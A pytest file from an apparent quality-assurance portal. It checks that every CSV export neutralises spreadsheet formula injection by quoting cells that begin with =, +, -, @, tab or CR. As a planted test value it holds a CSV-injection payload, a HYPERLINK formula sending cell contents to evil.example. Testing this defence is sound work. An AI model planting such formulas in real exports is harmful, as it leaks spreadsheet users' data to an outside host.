"""No CSV the portal produces lets a spreadsheet run a cell as a formula: one writer, used by every export."""
import csv
import io
from pathlib import Path

import pytest

import qa_portal
from qa_portal.audit.services import record
from qa_portal.auth.models import Role
from qa_portal.core.csv_export import csv_text, neutralise_cell
from qa_portal.extensions import db
from qa_portal.standards.models import VersionStatus
from tests.factories import login, make_user
from tests.registry.factories import published_decision, registry_institution
from tests.standards.factories import make_comment, make_version

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"), ("Plain text", "Plain text"), ("a=b", "a=b"), ("", ""), (-5, -5), (None, None), (3.5, 3.5),
])
def test_neutralise_cell_prefixes_only_text_starting_a_formula(cell, written):
    """OWASP's rule: text starting with = + - @ tab or CR gets a leading quote; other text and numbers stay."""
    assert neutralise_cell(cell) == written


def test_csv_text_is_rfc4180_with_neutralised_cells():
    """Commas and quotes are quoted, lines end in CRLF, and a formula is neutralised inside quoting too."""
    text = csv_text(["name", "note"], [[FORMULA, 'a, "b"']])
    assert text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text))) == [["name", "note"], ["'" + FORMULA, 'a, "b"']]


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _assert_neutralised(body: str) -> None:
    cells = _cells(body)
    assert "'" + FORMULA in cells, "the planted formula must reach the file"
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_consultation_report_csv_neutralises_a_planted_formula(app, client):
    """A consultation comment starting with =HYPERLINK(...) reaches the officer's CSV as text."""
    version = make_version(VersionStatus.CONSULTATION)
    make_comment(version, author=make_user(full_name="-Mallory"), text=FORMULA)
    login(client, make_user(Role.OFFICER))
    body = client.get(f"/manage/standards/versions/{version.id}/consultation-report.csv").get_data(as_text=True)
    _assert_neutralised(body)
    assert "'-Mallory" in _cells(body)


def test_audit_csv_neutralises_a_planted_formula(app, client):
    """An audit entry whose summary starts with a formula is written as text in the streamed audit CSV."""
    record(None, "test.plant", None, FORMULA)
    db.session.commit()
    login(client, make_user(Role.OFFICER))
    _assert_neutralised(client.get("/audit/export.csv").get_data(as_text=True))


def test_public_decisions_csv_neutralises_a_planted_formula(app, client):
    """An institution named =HYPERLINK(...) reaches /api/v1/decisions.csv as text (the JSON keeps the name as it is)."""
    decision = published_decision(institution=registry_institution(name_en=FORMULA, name_hy="+Ֆորմուլա"))
    body = client.get("/api/v1/decisions.csv").get_data(as_text=True)
    _assert_neutralised(body)
    assert "'+Ֆորմուլա" in _cells(body)
    assert client.get(f"/api/v1/decisions/{decision.id}").get_json()["institution"]["name_en"] == FORMULA


def test_an_empty_audit_log_still_gives_the_header(app, client):
    """The streamed audit CSV sends its header even when no entry matches."""
    login(client, make_user(Role.OFFICER))
    body = client.get("/audit/export.csv?actor=nobody-at-all").get_data(as_text=True)
    assert body.startswith("id,at,actor,action")


def test_every_csv_is_written_by_the_core_writer():
    """No module but core/csv_export.py builds a csv.writer: a new export cannot skip the neutralising."""
    package = Path(qa_portal.__file__).parent
    writers = sorted(str(path.relative_to(package)) for path in package.rglob("*.py")
                     if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    assert writers == ["core/csv_export.py"]
